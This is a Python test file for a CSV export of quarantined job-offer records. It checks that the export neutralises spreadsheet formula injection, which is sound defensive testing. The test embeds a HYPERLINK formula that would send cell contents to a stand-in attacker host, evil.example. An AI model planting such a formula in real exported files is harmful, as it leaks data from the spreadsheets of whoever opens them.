"""`boostez quarantine list --csv`, as staff run it to write to the contractor."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest

from connectors.region.database import Region
from connectors.region.offers import quarantine
from connectors.region.offers.quarantine import Detained
from schemas.documents import Reason, shown

ROOT = Path(__file__).parents[2]
pytestmark = pytest.mark.database


def listed(database_url: str, home: Path, *options: str) -> bytes:
    ended = subprocess.run(
        [sys.executable, "-m", "deployments", "quarantine", "list", *options],
        env={**os.environ, "BOOSTEZ_DATABASE_URL": database_url, "BOOSTEZ_HOME": str(home)},
        cwd=ROOT,
        capture_output=True,
        check=False,
        timeout=120,
    )
    assert ended.returncode == 0, ended.stderr.decode()
    return ended.stdout


def test_every_reason_is_a_line_that_a_spreadsheet_shows_and_does_not_run(
    database_url: str, tmp_path: Path
) -> None:
    region = Region(database_url)
    evil = '=HYPERLINK("https://evil.example?x="&A1)'
    reasons = (
        Reason("/job/salary/minimum", "type", shown(-5), "/job/salary/minimum must be of type string."),
        Reason("", "required", shown({"ref": evil}), "the item lacks a required member: 'titre'. Send it."),
    )
    quarantine.put(region, None, [
        Detained("contractor", "C-1", "C-1", b"1" * 32, b"{}", reasons),
        Detained("contractor", "#ab12", None, b"2" * 32, b"{}", (Reason("/é", "json", shown(evil), evil),)),
    ])  # fmt: skip
    region.dispose()

    written = listed(database_url, tmp_path, "--csv")

    assert written.startswith(b"\xef\xbb\xbfref,rule,field,message,value,since\r\n")
    rows = list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline="")))
    assert all(dt.datetime.fromisoformat(since).tzinfo for *_, since in rows[1:])
    assert [row[:-1] for row in rows[1:]] == [
        ["#ab12", "json", "/é", f"'{evil}", shown("'" + evil)],
        ["C-1", "type", "/job/salary/minimum", "/job/salary/minimum must be of type string.", "-5"],
        ["C-1", "required", "/", "the item lacks a required member: 'titre'. Send it.", shown({"ref": evil})],
    ]


def test_an_empty_quarantine_is_a_header(database_url: str, tmp_path: Path) -> None:
    assert listed(database_url, tmp_path, "--csv") == b"\xef\xbb\xbfref,rule,field,message,value,since\r\n"
